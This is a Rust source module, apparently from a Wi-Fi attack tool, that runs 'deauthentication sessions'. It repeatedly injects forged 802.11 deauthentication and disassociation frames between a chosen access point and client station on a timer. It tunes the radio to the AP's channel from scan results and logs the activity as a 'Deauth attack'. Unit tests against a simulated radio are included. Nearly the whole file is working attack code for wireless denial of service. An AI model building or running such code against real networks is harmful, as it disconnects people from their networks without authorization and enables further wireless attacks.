//! Deauthentication sessions.
//!
//! A session repeatedly injects forged deauthentication and disassociation
//! frames between one access point and one station. Each period emits a burst
//! of four frames (see [`frame::deauth_burst`]). The burst loop runs on a
//! tokio task; [`DeauthSession::stop`] waits for that task to finish, so once
//! it returns no further burst can be sent.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use log::{debug, error, info, warn};
use serde::Serialize;
use tokio::runtime::Handle;
use tokio::sync::oneshot;
use tokio::task::JoinHandle;
use tokio::time::{interval_at, Instant, MissedTickBehavior};

use crate::driver::{blocking, Interface, RadioDriver};
use crate::error::{Error, Result};
use crate::frame;
use crate::inventory::ApInventory;
use crate::mac::MacAddress;

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct DeauthStats {
    pub ticks: u64,
    pub frames_sent: u64,
    pub frames_failed: u64,
}

#[derive(Debug, Default)]
struct Counters {
    ticks: AtomicU64,
    frames_sent: AtomicU64,
    frames_failed: AtomicU64,
}

impl Counters {
    fn snapshot(&self) -> DeauthStats {
        DeauthStats {
            ticks: self.ticks.load(Ordering::SeqCst),
            frames_sent: self.frames_sent.load(Ordering::SeqCst),
            frames_failed: self.frames_failed.load(Ordering::SeqCst),
        }
    }
}

pub struct DeauthSession {
    ap: MacAddress,
    target: MacAddress,
    channel: Option<u8>,
    period: Duration,
    counters: Arc<Counters>,
    shutdown: Option<oneshot::Sender<()>>,
    task: Option<JoinHandle<()>>,
}

impl DeauthSession {
    /// Starts injecting against the `ap`/`target` pair every `period`.
    ///
    /// The AP's channel is looked up in `inventory` and tuned when found.
    /// When the AP is not in the inventory the radio stays on whatever
    /// channel it was already on.
    pub fn start(
        driver: Arc<dyn RadioDriver>,
        inventory: &ApInventory,
        ap: MacAddress,
        target: MacAddress,
        period: Duration,
    ) -> Result<Self> {
        if ap.is_zero() || target.is_zero() {
            return Err(Error::invalid("AP and target addresses are required"));
        }
        if period.is_zero() {
            return Err(Error::invalid("injection period must be positive"));
        }

        let runtime = Handle::try_current().map_err(|e| {
            error!("Failed to create timer: {}", e);
            Error::driver(format!("no timer service available: {}", e))
        })?;

        let channel = match inventory.find_by_bssid(&ap) {
            Some(record) => {
                driver.set_channel(record.channel).map_err(|e| {
                    error!("Failed to set wifi channel: {}", e);
                    e
                })?;
                Some(record.channel)
            }
            None => {
                warn!(
                    "AP {} not in scan results, staying on the current channel",
                    ap
                );
                None
            }
        };

        let counters = Arc::new(Counters::default());
        let (shutdown_tx, shutdown_rx) = oneshot::channel();
        let task = runtime.spawn(run_injector(
            driver,
            ap,
            target,
            period,
            counters.clone(),
            shutdown_rx,
        ));

        info!("Deauth attack started: AP {} <-> {}", ap, target);
        Ok(DeauthSession {
            ap,
            target,
            channel,
            period,
            counters,
            shutdown: Some(shutdown_tx),
            task: Some(task),
        })
    }

    pub fn ap(&self) -> MacAddress {
        self.ap
    }

    pub fn target(&self) -> MacAddress {
        self.target
    }

    /// Channel tuned at start, or `None` if the AP was not in the inventory.
    pub fn channel(&self) -> Option<u8> {
        self.channel
    }

    pub fn period(&self) -> Duration {
        self.period
    }

    pub fn stats(&self) -> DeauthStats {
        self.counters.snapshot()
    }

    /// Stops the injection loop and waits for it to exit.
    pub async fn stop(mut self) -> Result<DeauthStats> {
        if let Some(shutdown) = self.shutdown.take() {
            // The task may already have exited; that is fine.
            let _ = shutdown.send(());
        }

        if let Some(task) = self.task.take() {
            task.await.map_err(|e| {
                error!("Failed to stop timer: {}", e);
                Error::driver(format!("injection task did not exit cleanly: {}", e))
            })?;
        }

        let stats = self.counters.snapshot();
        info!(
            "Deauth attack stopped after {} bursts ({} frames sent, {} failed)",
            stats.ticks, stats.frames_sent, stats.frames_failed
        );
        Ok(stats)
    }
}

impl Drop for DeauthSession {
    fn drop(&mut self) {
        if let Some(task) = self.task.take() {
            task.abort();
        }
    }
}

async fn run_injector(
    driver: Arc<dyn RadioDriver>,
    ap: MacAddress,
    target: MacAddress,
    period: Duration,
    counters: Arc<Counters>,
    mut shutdown: oneshot::Receiver<()>,
) {
    let mut ticker = interval_at(Instant::now() + period, period);
    ticker.set_missed_tick_behavior(MissedTickBehavior::Skip);

    loop {
        tokio::select! {
            biased;
            _ = &mut shutdown => break,
            _ = ticker.tick() => {
                blocking(|| inject_burst(driver.as_ref(), ap, target, &counters))
            }
        }
    }
}

/// Sends one burst. A failed frame is logged and the rest are still sent.
fn inject_burst(driver: &dyn RadioDriver, ap: MacAddress, target: MacAddress, counters: &Counters) {
    counters.ticks.fetch_add(1, Ordering::SeqCst);

    for frame in frame::deauth_burst(ap, target) {
        let label = if frame.frame_control() == frame::FC_DEAUTH {
            "Deauth"
        } else {
            "Disassoc"
        };
        match driver.transmit_raw_frame(Interface::Station, frame.as_bytes()) {
            Ok(()) => {
                counters.frames_sent.fetch_add(1, Ordering::SeqCst);
                debug!("{} packet sent to {}", label, frame.destination());
            }
            Err(e) => {
                counters.frames_failed.fetch_add(1, Ordering::SeqCst);
                warn!("{} packet to {} failed: {}", label, frame.destination(), e);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::driver::sim::SimulatedRadio;
    use crate::inventory::ApRecord;

    const AP: MacAddress = MacAddress::new([0x34, 0x2c, 0xc4, 0xad, 0xb2, 0xd5]);
    const STA: MacAddress = MacAddress::new([0x28, 0x7f, 0xcf, 0xba, 0x0f, 0x59]);

    #[test]
    fn burst_failures_do_not_stop_the_burst() {
        let radio = SimulatedRadio::new();
        radio.fail_next_transmits(1);
        let counters = Counters::default();

        inject_burst(&radio, AP, STA, &counters);

        let stats = counters.snapshot();
        assert_eq!(stats.ticks, 1);
        assert_eq!(stats.frames_failed, 1);
        assert_eq!(stats.frames_sent, 3);
        assert_eq!(radio.transmitted().len(), 3);
    }

    #[test]
    fn start_requires_addresses() {
        let radio = Arc::new(SimulatedRadio::new());
        let inventory = ApInventory::new();
        let period = Duration::from_millis(100);

        let err = DeauthSession::start(radio.clone(), &inventory, MacAddress::ZERO, STA, period);
        assert!(matches!(err, Err(Error::InvalidArgument(_))));
        let err = DeauthSession::start(radio, &inventory, AP, MacAddress::ZERO, period);
        assert!(matches!(err, Err(Error::InvalidArgument(_))));
    }

    #[test]
    fn start_without_runtime_installs_nothing() {
        let radio = Arc::new(SimulatedRadio::new());
        let err = DeauthSession::start(
            radio.clone(),
            &ApInventory::new(),
            AP,
            STA,
            Duration::from_millis(100),
        );
        assert!(matches!(err, Err(Error::DriverFailure(_))));
        assert!(radio.transmitted().is_empty());
    }

    #[test]
    fn start_without_runtime_leaves_channel_alone() {
        let radio = Arc::new(SimulatedRadio::new());
        radio.set_channel(11).unwrap();
        radio.set_air(vec![ApRecord::new("CoffeeShop", AP, -48, 6)]);
        let mut inventory = ApInventory::new();
        inventory.scan_access_points(radio.as_ref()).unwrap();
        let changes = radio.channel_log().len();

        let err = DeauthSession::start(
            radio.clone(),
            &inventory,
            AP,
            STA,
            Duration::from_millis(100),
        );
        assert!(matches!(err, Err(Error::DriverFailure(_))));
        assert_eq!(radio.channel(), 11);
        assert_eq!(radio.channel_log().len(), changes);
    }
}
